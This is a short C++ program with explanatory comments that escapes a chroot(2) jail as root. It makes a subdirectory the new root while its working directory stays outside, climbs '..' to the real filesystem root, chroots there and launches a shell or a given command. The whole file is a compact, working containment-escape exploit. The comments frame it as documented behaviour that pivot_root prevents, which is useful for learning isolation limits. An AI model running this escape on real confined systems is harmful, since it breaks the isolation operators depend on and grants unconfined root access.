// A way out of chroot(2), for root. It is not a forgotten bug, but documented
// in the manual page of chroot:
//
//     make escape && sudo chroot build/rootfs /escape ls /home
//
// chroot changes where the process's paths begin, and nothing else. So the
// process may stay where it is, outside its own root, and from there it goes
// up. In a root that pivot_root(2) has made, there is no "up" any more.

#include <err.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

namespace {

constexpr char kFolder[] = "/escape-me";

struct stat Stat(const char* directory) {
  struct stat attributes = {};
  if (stat(directory, &attributes) != 0) {
    err(EXIT_FAILURE, "look at %s", directory);
  }
  return attributes;
}

bool IsSame(const struct stat& one, const struct stat& other) {
  return one.st_dev == other.st_dev && one.st_ino == other.st_ino;
}

// #region escape
// Makes a folder below us the root, while we stay above it.
void StepOutOfTheRoot() {
  if (mkdir(kFolder, 0700) != 0 || chdir("/") != 0 || chroot(kFolder) != 0) {
    err(EXIT_FAILURE, "make a folder the root");
  }
  // This name still works: our working directory is above it.
  rmdir(kFolder + 1);
}

// ".." stops at the process's own root, and we are outside it. So it leads up
// to the directory that has nothing above it.
void WalkToTheTop() {
  struct stat here = Stat(".");
  struct stat below;
  do {
    below = here;
    if (chdir("..") != 0) {
      err(EXIT_FAILURE, "go up");
    }
    here = Stat(".");
  } while (!IsSame(here, below));
}
// #endregion escape

}  // namespace

int main(int argc, char* argv[]) {
  const struct stat cage = Stat("/");
  StepOutOfTheRoot();
  WalkToTheTop();
  if (chroot(".") != 0) {
    err(EXIT_FAILURE, "make the top the root");
  }
  if (IsSame(Stat("/"), cage)) {
    errx(EXIT_FAILURE, "no way out: above this root there is nothing");
  }
  if (argc > 1) {
    execvp(argv[1], argv + 1);
    err(EXIT_FAILURE, "execute %s", argv[1]);
  }
  execlp("sh", "sh", nullptr);
  err(EXIT_FAILURE, "execute sh");
}
